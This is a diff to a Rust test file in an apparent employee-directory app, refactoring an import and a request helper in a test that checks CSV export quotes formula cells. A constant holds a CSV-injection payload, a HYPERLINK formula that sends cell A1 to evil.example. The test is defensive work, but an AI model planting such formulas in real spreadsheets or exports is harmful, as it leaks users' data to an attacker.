@@ -6,7 +6,7 @@ use gatehouse::directory::csv_io;
 use gatehouse::directory::employees::{self as people, Profile};
 use gatehouse::directory::lifecycle;
 
-use crate::admin::console;
+use crate::helpers::admin::console;
 use crate::helpers::{csv, person};
 
 const TITLE: &str = r#"=HYPERLINK("http://evil.example/?d="&A1,"Click")"#;
@@ -30,12 +30,7 @@ async fn formula_cells_are_quoted_in_the_export_and_read_back_unchanged() {
         .app
         .write(|conn| lifecycle::create(conn, &c.account.id, risky("ann@acme.com"), &csv()))
         .expect("ann");
-    let response = c
-        .browser
-        .get(c.url("/admin/export.csv"))
-        .send()
-        .await
-        .expect("export");
+    let response = c.app.get_in(&c.browser, "/admin/export.csv").await;
     assert_eq!(response.status(), 200);
     let text = response.text().await.expect("csv");
 
